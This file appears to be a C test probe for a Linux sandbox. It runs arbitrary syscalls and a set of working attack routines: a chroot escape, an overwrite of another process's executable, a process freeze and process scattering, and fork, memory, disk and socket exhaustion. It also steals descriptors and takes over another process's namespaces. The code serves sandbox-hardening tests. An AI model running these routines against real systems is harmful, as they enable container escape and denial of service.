/* What an attacker does inside a sandbox, one word of the command line a trick; a static program, so that it runs in any
 * tree. It judges nothing: it prints what the kernel answered, and the tests know what that should have been.
 *
 *     probe calls CALL...     each CALL is "name argument ...", run in a child of its own; prints a line for each
 *
 * Arguments of a call: a number (any base), "null", "s:text", "z:N" for N zero bytes, "h:HEX" for these bytes.
 * A line is "ok", "errnoN" or "signal N".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/aio_abi.h>
#include <linux/capability.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_open_tree_attr
#define SYS_open_tree_attr 467
#endif
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

#define PATIENCE 20 /* seconds that any trick may take */

static const struct {
	const char *name;
	long number;
} calls[] = {
#define CALL(name) {#name, SYS_##name}
	CALL(acct), CALL(add_key), CALL(adjtimex), CALL(bpf), CALL(clock_adjtime), CALL(clock_settime), CALL(delete_module),
	CALL(fanotify_init), CALL(finit_module), CALL(fsconfig), CALL(fsmount), CALL(fsopen), CALL(fspick), CALL(init_module),
	CALL(io_uring_enter), CALL(io_uring_register), CALL(io_uring_setup), CALL(ioctl), CALL(kexec_load), CALL(keyctl),
	CALL(kill), CALL(mknodat), CALL(mount), CALL(mount_setattr), CALL(move_mount), CALL(open_by_handle_at),
	CALL(open_tree), CALL(open_tree_attr), CALL(openat), CALL(perf_event_open), CALL(personality), CALL(pidfd_getfd),
	CALL(pidfd_open), CALL(pivot_root), CALL(prctl), CALL(prlimit64), CALL(process_madvise), CALL(ptrace),
	CALL(quotactl), CALL(reboot), CALL(request_key), CALL(sched_setscheduler), CALL(setdomainname), CALL(sethostname),
	CALL(setns), CALL(setpriority), CALL(settimeofday), CALL(setxattr), CALL(socket), CALL(socketpair), CALL(swapoff),
	CALL(swapon), CALL(syslog), CALL(umount2), CALL(unshare), CALL(userfaultfd), CALL(vhangup), CALL(linkat),
	CALL(fchmodat), CALL(fchownat), CALL(unlinkat), CALL(chroot), CALL(memfd_create), CALL(getpid),
#ifdef SYS_iopl
	CALL(iopl), CALL(ioperm),
#endif
#ifdef SYS_kexec_file_load
	CALL(kexec_file_load),
#endif
};

static void say(const char *text)
{
	printf("%s\n", text);
	fflush(stdout);
}

/* Not every C library knows the names. */
static const char *code_name(int code)
{
	static char name[16];

	snprintf(name, sizeof name, "errno%d", code);
	return code ? name : "ok";
}

static void say_result(long result)
{
	say(code_name(result < 0 ? errno : 0));
}

static void say_number(long number)
{
	printf("%ld\n", number);
	fflush(stdout);
}

static _Noreturn void give_up(const char *what)
{
	fprintf(stderr, "probe: %s: %s\n", what, strerror(errno));
	exit(99);
}

/* ------------------------------------------------------------------------------------------------ calls */

static long argument(char *word)
{
	size_t length;
	uint8_t *bytes;

	if (!strcmp(word, "null"))
		return 0;
	if (!strncmp(word, "s:", 2))
		return (long)(word + 2);
	if (!strncmp(word, "z:", 2))
		return (long)calloc(1, strtoul(word + 2, NULL, 0));
	if (strncmp(word, "h:", 2))
		return (long)strtoull(word, NULL, 0);
	length = strlen(word + 2) / 2;
	bytes = calloc(1, length + 1);
	for (size_t i = 0; i < length; i++)
		sscanf(word + 2 + 2 * i, "%2hhx", &bytes[i]);
	return (long)bytes;
}

static long make_call(char *text)
{
	char *name = strtok(text, " "), *word;
	long arguments[6] = {0}, number = -1;

	for (size_t i = 0; i < sizeof calls / sizeof *calls; i++)
		if (!strcmp(calls[i].name, name))
			number = calls[i].number;
	if (number < 0)
		number = strtol(name, NULL, 0);
	for (int i = 0; i < 6 && (word = strtok(NULL, " ")); i++)
		arguments[i] = argument(word);
	return syscall(number, arguments[0], arguments[1], arguments[2], arguments[3], arguments[4], arguments[5]);
}

static void run_calls(char **texts)
{
	for (; *texts; texts++) {
		pid_t pid = fork();
		int status = 0;

		if (pid < 0)
			give_up("fork");
		if (!pid) {
			alarm(5);
			say_result(make_call(*texts));
			_exit(0);
		}
		waitpid(pid, &status, 0);
		if (WIFSIGNALED(status)) {
			printf("signal %d\n", WTERMSIG(status));
			fflush(stdout);
		}
	}
}

/* ------------------------------------------------------------------------------------- other namespaces */

struct clone_arguments {
	uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
};

/* Each FLAGS through clone, clone3 and unshare. */
static void new_namespaces(char **flags)
{
	for (; *flags; flags++) {
		unsigned long flag = strtoul(*flags, NULL, 0);
		struct clone_arguments wide = {.flags = flag, .exit_signal = SIGCHLD};
		long results[3];
		int codes[3];

		errno = 0;
		results[0] = syscall(SYS_clone, flag | SIGCHLD, 0, 0, 0, 0);
		if (!results[0])
			_exit(0);
		codes[0] = errno;
		results[1] = syscall(SYS_clone3, &wide, sizeof wide);
		if (!results[1])
			_exit(0);
		codes[1] = errno;
		results[2] = fork();
		if (!results[2])
			_exit(unshare((int)flag) ? errno : 0);
		waitpid((pid_t)results[2], &codes[2], 0);
		codes[2] = WEXITSTATUS(codes[2]);
		for (int i = 0; i < 3; i++)
			printf("%s%s", i ? " " : "", code_name(i == 2 || results[i] < 0 ? codes[i] : 0));
		say("");
	}
}

/* The same call by another door: 32-bit code, and the x32 numbers. */
static void other_doors(void)
{
#ifdef __x86_64__
	long result;

	__asm__ volatile("int $0x80" : "=a"(result) : "a"(20L) : "memory", "r8", "r9", "r10", "r11");
	say(code_name(result < 0 ? (int)-result : 0));
	say_result(syscall(0x40000000L + SYS_getpid));
#else
	say(code_name(ENOSYS));
	say(code_name(ENOSYS));
#endif
}

/* -------------------------------------------------------------------------------------------- neighbours */

static socklen_t abstract(struct sockaddr_un *address, const char *name)
{
	*address = (struct sockaddr_un){.sun_family = AF_UNIX};
	strncpy(address->sun_path + 1, name, sizeof address->sun_path - 2);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
}

static void serve(const char *name, const char *port)
{
	struct sockaddr_in inet = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
	struct sockaddr_un address;
	socklen_t size = abstract(&address, name);
	int local = socket(AF_UNIX, SOCK_STREAM, 0), wide = socket(AF_INET, SOCK_STREAM, 0), one = 1;

	setsockopt(wide, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(local, (void *)&address, size) || listen(local, 1) || bind(wide, (void *)&inet, sizeof inet) || listen(wide, 1))
		give_up("listen");
	say("ready");
	pause();
}

static void visit(const char *name, const char *host, const char *port)
{
	struct sockaddr_in inet = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
	struct sockaddr_un address;
	socklen_t size = abstract(&address, name);

	inet.sin_addr.s_addr = htonl((uint32_t)strtoul(host, NULL, 0));
	say_result(connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&address, size));
	say_result(connect(socket(AF_INET, SOCK_STREAM, 0), (void *)&inet, sizeof inet));
}

/* A shared memory segment, semaphores, a message queue of both kinds: made with FLAGS, or looked for with 0. */
static void exchange(const char *key, const char *flags)
{
	key_t number = (key_t)strtol(key, NULL, 0);
	int how = (int)strtol(flags, NULL, 8);
	struct mq_attr shape = {.mq_maxmsg = 1, .mq_msgsize = 1};
	char name[32];

	snprintf(name, sizeof name, "/traforo-%s", key);
	say_result(shmget(number, 4096, how));
	say_result(semget(number, 1, how));
	say_result(msgget(number, how));
	say_result(mq_open(name, O_RDWR | (how & IPC_CREAT ? O_CREAT : 0), 0666, &shape));
}

static void forget(const char *key)
{
	key_t number = (key_t)strtol(key, NULL, 0);
	char name[32];

	snprintf(name, sizeof name, "/traforo-%s", key);
	shmctl(shmget(number, 0, 0), IPC_RMID, NULL);
	semctl(semget(number, 0, 0), 0, IPC_RMID);
	msgctl(msgget(number, 0), IPC_RMID, NULL);
	mq_unlink(name);
}

/* Takes one of a thing that a kernel counts; false when there is no more. */
static bool take_one(const char *thing, int number)
{
	struct mq_attr shape = {.mq_maxmsg = 10, .mq_msgsize = 8192};
	struct sigevent quiet = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGRTMIN};
	aio_context_t context = 0;
	union sigval nothing = {0};
	timer_t timer;
	char name[32];

	if (!strcmp(thing, "watchers"))
		return inotify_init1(0) >= 0;
	if (!strcmp(thing, "signals"))
		return !sigqueue(getpid(), SIGRTMIN, nothing);
	if (!strcmp(thing, "timers"))
		return !timer_create(CLOCK_MONOTONIC, &quiet, &timer);
	if (!strcmp(thing, "terminals"))
		return open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0;
	if (!strcmp(thing, "requests"))
		return !syscall(SYS_io_setup, 1024, &context);
	if (!strcmp(thing, "files"))
		return open("/dev/null", O_RDONLY) >= 0;
	snprintf(name, sizeof name, "/traforo-%d-%d", getpid(), number);
	if (mq_open(name, O_CREAT | O_RDWR, 0600, &shape) == (mqd_t)-1)
		return false;
	mq_unlink(name); /* counted as long as it is open, and left to nobody */
	return true;
}

/* As many as there are, up to MOST; says how many, and keeps them if that is asked. */
static void take(const char *thing, const char *most, bool keep)
{
	struct rlimit many = {8192, 8192};
	int number = 0, limit = atoi(most);
	sigset_t all;

	sigfillset(&all);
	sigprocmask(SIG_BLOCK, &all, NULL);
	setrlimit(RLIMIT_NOFILE, &many);
	while (number < limit && take_one(thing, number))
		number++;
	say_number(number);
	while (keep)
		pause();
}

static void watch(const char *path)
{
	char events[4096];
	int fd = inotify_init1(0);

	if (inotify_add_watch(fd, path, IN_ALL_EVENTS) < 0) {
		say_result(-1);
		return;
	}
	say("ready");
	say(read(fd, events, sizeof events) > 0 ? "event" : "end");
}

/* ------------------------------------------------------------------------------------------------ hunger */

static void hog(const char *mib)
{
	size_t size = strtoul(mib, NULL, 0) << 20;
	char *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

	if (memory == MAP_FAILED)
		give_up("mmap");
	for (size_t at = 0; at < size; at += 4096)
		memory[at] = 1;
	say("ok");
}

/* Children until the kernel refuses; they live as long as we do. */
static void breed(const char *most)
{
	int number = 0, limit = atoi(most);

	while (number < limit) {
		pid_t pid = fork();

		if (pid < 0)
			break;
		if (!pid) {
			prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
			pause();
			_exit(0);
		}
		number++;
	}
	printf("%d %s\n", number, code_name(number < limit ? errno : 0));
	fflush(stdout);
	pause();
}

/* Orphans that end at once, for whoever is their parent then. */
static void orphan(const char *many)
{
	for (int i = 0; i < atoi(many); i++) {
		pid_t pid = fork();

		if (pid < 0)
			give_up("fork");
		if (!pid) {
			if (!fork())
				_exit(0);
			_exit(0);
		}
		waitpid(pid, NULL, 0);
	}
	say("ok");
}

/* Never the same process for long: each generation leaves its session and its parent, and starts the next one. */
static void scatter(void)
{
	signal(SIGTERM, SIG_IGN);
	say("ready");
	for (;;) {
		pid_t pid = fork();

		if (pid > 0)
			_exit(0);
		if (!pid)
			setsid();
		usleep(100); /* a kernel frees processes later than these could be made: memory would end first */
	}
}

/* Connections to ourselves whose buffers nobody empties; says how many MiB they took. */
static void stuff(const char *connections)
{
	static char block[1 << 20];
	struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t size = sizeof address;
	int listener = socket(AF_INET, SOCK_STREAM, 0);
	long total = 0, put;

	if (bind(listener, (void *)&address, size) || listen(listener, 8) || getsockname(listener, (void *)&address, &size))
		give_up("listen");
	for (int i = 0; i < atoi(connections); i++) {
		int from = socket(AF_INET, SOCK_STREAM, 0), to;

		if (from < 0 || connect(from, (void *)&address, size) || (to = accept(listener, NULL, NULL)) < 0)
			break;
		fcntl(from, F_SETFL, O_NONBLOCK);
		fcntl(to, F_SETFL, O_NONBLOCK);
		while ((put = write(from, block, sizeof block)) > 0 || (put = write(to, block, sizeof block)) > 0)
			total += put;
	}
	say_number(total >> 20);
}

static void fill(const char *path)
{
	static char block[1 << 16];
	int fd = open(path, O_WRONLY | O_CREAT, 0600);
	long written = 0, got;

	memset(block, 1, sizeof block);
	while (fd >= 0 && (got = write(fd, block, sizeof block)) > 0 && written < 1L << 32)
		written += got;
	say(code_name(errno));
}

static void litter(const char *directory)
{
	char path[256];
	long number = 0;

	for (; number < 1000000; number++) {
		int fd;

		snprintf(path, sizeof path, "%s/%ld", directory, number);
		fd = open(path, O_WRONLY | O_CREAT, 0600);
		if (fd < 0)
			break;
		close(fd);
	}
	say(code_name(errno));
}

static void shout(void)
{
	static char block[1 << 16];

	for (;;)
		if (write(1, block, sizeof block) < 0 || write(2, block, sizeof block) < 0)
			_exit(0);
}

/* ----------------------------------------------------------------------------------------------- escapes */

/* Out of a chroot by the directory that stayed open, then up as far as it goes. */
static void climb(void)
{
	char text[256] = "";
	int fd, up = open(".", O_RDONLY | O_DIRECTORY);

	mkdir("/tmp/pit", 0755);
	if (chroot("/tmp/pit") || fchdir(up))
		give_up("chroot");
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			break;
	if (chroot("."))
		give_up("chroot");
	fd = open("etc/hostname", O_RDONLY);
	if (fd < 0 || read(fd, text, sizeof text - 1) < 0)
		give_up("etc/hostname");
	text[strcspn(text, "\n")] = 0;
	say(text);
}

/* For ever: what is at A changes places with what is at B. */
static void swap(const char *a, const char *b)
{
	say("ready");
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

/* For ever: stops every process but ourselves and the init. */
static void freeze(void)
{
	say("ready");
	for (;;)
		for (pid_t pid = 2; pid < 512; pid++)
			if (pid != getpid())
				kill(pid, SIGSTOP);
}

static void read_memory(const char *pid)
{
	char byte;
	struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};

	say_result(process_vm_readv((pid_t)atoi(pid), &here, 1, &there, 1, 0));
	say_result(process_vm_writev((pid_t)atoi(pid), &here, 1, &there, 1, 0));
	say_result(syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, atoi(pid), 0), 0, 0));
}

/* Takes hold of the program of another process, one whose path begins so, and writes to it when the process is gone. */
static void steal(const char *prefix)
{
	char path[64], target[256] = "";
	int fd = -1;

	say("ready");
	for (pid_t pid = 2;; pid = pid < 4096 ? pid + 1 : 2) {
		snprintf(path, sizeof path, "/proc/%d/exe", pid);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		memset(target, 0, sizeof target);
		if (readlink(path, target, sizeof target - 1) > 0 && !strncmp(target, prefix, strlen(prefix)))
			break;
		close(fd);
	}
	usleep(200000);
	say_result(truncate(path, 0));
	fd = open(path, O_RDWR);
	say_result(fd < 0 ? fd : write(fd, "x", 1));
	say_result(chmod(path, 0777));
}

static void list_descriptors(void)
{
	DIR *directory = opendir("/proc/self/fd");
	struct dirent *entry;

	while (directory && (entry = readdir(directory)))
		if (entry->d_name[0] != '.' && atoi(entry->d_name) != dirfd(directory))
			say(entry->d_name);
}

/* --------------------------------------------------------------------------------- run by the host's root */

/* Becomes what the init PID would be if somebody had taken it over: its descriptors, namespaces, ids and capabilities.
 * Then says of every directory among the descriptors whether ".." leads out of it, and what it finds at the top. */
static void possess(const char *pid, const char *mask)
{
	struct __user_cap_header_struct header = {.version = _LINUX_CAPABILITY_VERSION_3};
	uint32_t kept = (uint32_t)strtoul(mask, NULL, 0);
	struct __user_cap_data_struct caps[2] = {{kept, kept, 0}, {0, 0, 0}};
	int init = (int)syscall(SYS_pidfd_open, atoi(pid), 0), stolen[64], count = 0, status;

	if (init < 0)
		give_up("pidfd_open");
	for (int fd = 0; fd < 64; fd++) {
		int copy = (int)syscall(SYS_pidfd_getfd, init, fd, 0);

		if (copy >= 0)
			stolen[count++] = copy;
	}
	if (setns(init, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWIPC | CLONE_NEWUTS |
				CLONE_NEWCGROUP) ||
	    setgroups(0, NULL) || setresgid(0, 0, 0) || setresuid(0, 0, 0) || syscall(SYS_capset, &header, caps))
		give_up("possess");
	if (!fork()) {
		for (int i = 0; i < count; i++) {
			struct stat here, above;
			char path[512] = "";

			if (fstat(stolen[i], &here) || !S_ISDIR(here.st_mode))
				continue;
			for (int up = 0; up < 40; up++)
				strcat(path, "../");
			if (fstatat(stolen[i], "..", &above, 0))
				say("closed");
			else if (here.st_ino == above.st_ino && here.st_dev == above.st_dev)
				say("root");
			else
				say(faccessat(stolen[i], strcat(path, "proc/self"), F_OK, 0) ? "open" : "host");
		}
		_exit(0);
	}
	wait(&status);
	say_number(count);
}

/* Keeps a file for itself: the kernel asks it before anybody else opens it, and it does not answer. */
static void lease(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	signal(SIGIO, SIG_IGN);
	if (fd < 0 || fcntl(fd, F_SETLEASE, F_WRLCK) < 0)
		give_up("lease");
	say("leased");
	pause();
}

int main(int argc, char **argv)
{
	const char *word = argc > 1 ? argv[1] : "";

	alarm(PATIENCE);
	if (!strcmp(word, "calls"))
		run_calls(argv + 2);
	else if (!strcmp(word, "namespaces"))
		new_namespaces(argv + 2);
	else if (!strcmp(word, "doors"))
		other_doors();
	else if (!strcmp(word, "serve") && argc == 4)
		serve(argv[2], argv[3]);
	else if (!strcmp(word, "visit") && argc == 5)
		visit(argv[2], argv[3], argv[4]);
	else if (!strcmp(word, "exchange") && argc == 4)
		exchange(argv[2], argv[3]);
	else if (!strcmp(word, "forget") && argc == 3)
		forget(argv[2]);
	else if (!strcmp(word, "take") && argc >= 4)
		take(argv[2], argv[3], argc > 4);
	else if (!strcmp(word, "watch") && argc == 3)
		watch(argv[2]);
	else if (!strcmp(word, "hog") && argc == 3)
		hog(argv[2]);
	else if (!strcmp(word, "breed") && argc == 3)
		breed(argv[2]);
	else if (!strcmp(word, "orphan") && argc == 3)
		orphan(argv[2]);
	else if (!strcmp(word, "scatter"))
		scatter();
	else if (!strcmp(word, "stuff") && argc == 3)
		stuff(argv[2]);
	else if (!strcmp(word, "fill") && argc == 3)
		fill(argv[2]);
	else if (!strcmp(word, "litter") && argc == 3)
		litter(argv[2]);
	else if (!strcmp(word, "shout"))
		shout();
	else if (!strcmp(word, "climb"))
		climb();
	else if (!strcmp(word, "swap") && argc == 4)
		swap(argv[2], argv[3]);
	else if (!strcmp(word, "freeze"))
		freeze();
	else if (!strcmp(word, "memory") && argc == 3)
		read_memory(argv[2]);
	else if (!strcmp(word, "steal") && argc == 3)
		steal(argv[2]);
	else if (!strcmp(word, "descriptors"))
		list_descriptors();
	else if (!strcmp(word, "ids"))
		printf("%d %d\n", getuid(), geteuid());
	else if (!strcmp(word, "possess") && argc == 4)
		possess(argv[2], argv[3]);
	else if (!strcmp(word, "lease") && argc == 3)
		lease(argv[2]);
	else if (!strcmp(word, "wait"))
		pause();
	else
		return 2;
	return 0;
}
